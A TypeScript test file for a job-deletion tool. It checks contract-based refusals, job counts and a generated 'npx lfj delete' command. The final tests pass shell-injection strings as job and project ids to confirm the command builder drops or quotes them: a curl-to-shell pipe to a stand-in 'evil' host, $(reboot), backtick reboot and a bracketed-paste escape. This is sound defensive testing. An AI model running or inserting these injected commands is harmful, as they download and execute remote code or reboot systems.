import { execFileSync } from 'node:child_process';
import { refusedIn } from '@lakeformation-jobs/client';
import type { JobInfo } from '@lakeformation-jobs/client';
import { expect, test } from 'vitest';
import { filterStatuses, isActive, isRefused } from '../src/jobs/contract-words.ts';
import { lfjCommand } from '../src/remove/lfj-command.ts';
import { confirmation, countsByOutcome, countsByStatus, isSimple } from '../src/remove/plan.ts';

const job = (status: string): JobInfo => ({ id: '03141229-84cd-4b1b-9733-dd124320c125', name: 'testjob', type: 'METADATA_MIGRATION', create_time: '2023-05-27T10:04:35.743Z', status });

test('an action is refused exactly where the contract says so', () => {
  const operations = Object.keys(refusedIn) as (keyof typeof refusedIn)[];
  const cells = operations.flatMap((operation) => filterStatuses.map((status) => [isRefused(operation, status), (refusedIn[operation] as readonly string[]).includes(status)] as const));
  console.log(`${cells.length} pairs of operation and status`);
  expect(cells.length).toBe(operations.length * 7);
  expect(cells.filter(([page, contract]) => page !== contract)).toEqual([]);
  expect(isRefused('deleteJob', 'RUNNING')).toBe(true);
  expect(isRefused('stopJob', 'RUNNING')).toBe(false);
});

test('a status that nobody knows is not refused', () => {
  expect(isRefused('deleteJob', 'SOMETHING_NEW')).toBe(false);
  expect(isActive(job('SOMETHING_NEW'))).toBe(false);
});

test('only one job that is over is deleted after a simple question', () => {
  expect([[job('SUCCESS')], [job('RUNNING')], [job('SUBMITTED')], [job('SUCCESS'), job('FAILED')]].map(isSimple)).toEqual([true, false, false, false]);
});

test('what goes is counted by status, the most first', () => {
  expect(countsByStatus([job('FAILED'), job('RUNNING'), job('FAILED')])).toEqual([['FAILED', 2], ['RUNNING', 1]]);
});

test('what became of it is counted by outcome', () => {
  expect(countsByOutcome([{ outcome: 'deleted' }, { outcome: 'unknown' }, { outcome: 'deleted' }])).toEqual({ deleted: 2, unknown: 1 });
});

test('what has to be typed names the number', () => {
  expect(confirmation(500)).toBe('delete 500');
});

const [first, second] = ['03141229-84cd-4b1b-9733-dd124320c125', '03141229-84cd-4b1b-9733-dd124320c126'] as const;
const tenant = { project_id: 'p', instance_id: 'i' };

test('the command asks by itself and holds no token', () => {
  const command = lfjCommand([first, second], tenant, 'http://127.0.0.1:8080', true);
  expect(command).toEqual({ text: `npx --no lfj delete --endpoint http://127.0.0.1:8080 --project p --instance i --stop-first -- ${first} ${second}`, leftOut: 0 });
});

test.each([
  'x; curl http://evil|sh', `${first};reboot`, `${first}\n`, `${first}\ncurl evil`, '$(reboot)-84cd-4b1b-9733-dd124320c125', '`reboot`-84cd-4b1b-9733-dd124320c1', "'; reboot; '", '\u001b[201~reboot', '--stop-first', '',
])('an id that the contract does not have is left out of the command: %j', (hostile) => {
  expect(lfjCommand([hostile, first], tenant, 'http://127.0.0.1:8080', false)).toEqual({ text: `npx --no lfj delete --endpoint http://127.0.0.1:8080 --project p --instance i -- ${first}`, leftOut: 1 });
  expect(lfjCommand([hostile], tenant, 'http://127.0.0.1:8080', false)).toEqual({ text: undefined, leftOut: 1 });
});

test('a shell reads project, instance and endpoint as they are', () => {
  const hostile = { project_id: "it's; reboot", instance_id: '$(reboot)\n`reboot` "$HOME" \\' };
  const endpoint = 'http://[::1]:8080/a b';
  const { text } = lfjCommand([first], hostile, endpoint, false);
  const [, ...read] = execFileSync('sh', ['-c', text!.replace('npx', `printf '%s\\0' npx`)], { encoding: 'utf8' }).split('\0').slice(0, -1);
  expect(read).toEqual(['--no', 'lfj', 'delete', '--endpoint', endpoint, '--project', hostile.project_id, '--instance', hostile.instance_id, '--', first]);
});
